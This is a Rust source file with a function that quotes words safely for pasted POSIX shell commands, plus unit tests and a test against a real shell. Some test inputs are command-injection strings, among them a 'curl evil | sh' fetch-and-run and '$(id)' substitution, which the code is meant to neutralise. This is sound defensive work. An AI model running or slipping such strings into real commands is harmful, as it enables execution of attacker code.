//! How words stand in commands that are to be pasted.

use std::borrow::Cow;

use super::printable::is_unprintable;

/// A word as a POSIX shell reads it back: plain ones as they are, others in quotes. What cannot be printed is written in
/// octal, so that a line stays one line. Source: POSIX.1-2024, Shell Command Language, 2.2 "Quoting".
pub(crate) fn shell_word(word: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c);
    // The Z shell takes what follows a `=` for the name of a command.
    if !word.is_empty() && !word.starts_with('=') && word.chars().all(is_plain) {
        return Cow::Borrowed(word);
    }
    if !word.chars().any(is_unprintable) {
        return Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")));
    }
    let mut quoted = "$'".to_owned();
    for c in word.chars() {
        if is_unprintable(c) {
            for byte in c.encode_utf8(&mut [0; 4]).bytes() {
                quoted.push_str(&format!("\\{byte:03o}"));
            }
        } else {
            if matches!(c, '\'' | '\\') {
                quoted.push('\\');
            }
            quoted.push(c);
        }
    }
    quoted.push('\'');
    Cow::Owned(quoted)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_reads_back_what_was_meant() {
        for (word, wanted) in [
            (
                "arn:aws:sns:us-east-1:111122223333:a_b",
                "arn:aws:sns:us-east-1:111122223333:a_b",
            ),
            (
                "topic:iamwatch-acme@us-east-1",
                "topic:iamwatch-acme@us-east-1",
            ),
            ("", "''"),
            ("=ls", "'=ls'"),
            ("my plan.json", "'my plan.json'"),
            ("x; curl evil | sh #", "'x; curl evil | sh #'"),
            ("$(id) `id`", "'$(id) `id`'"),
            ("it's", r"'it'\''s'"),
            ("*", "'*'"),
            ("~", "'~'"),
            ("a\nb'\\c", r"$'a\012b\'\\c'"),
            ("\u{202e}x", r"$'\342\200\256x'"),
        ] {
            assert_eq!(shell_word(word), wanted);
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_real_shell_agrees() {
        for word in ["a b", "it's", "$(id)", "*", "", "\\", "a\"b", "!x", "-n"] {
            let command = format!("printf %s {}", shell_word(word));
            let mut shell = std::process::Command::new("sh");
            let said = shell.arg("-c").arg(command).output().unwrap();
            assert_eq!(String::from_utf8(said.stdout).unwrap(), word);
        }
    }
}
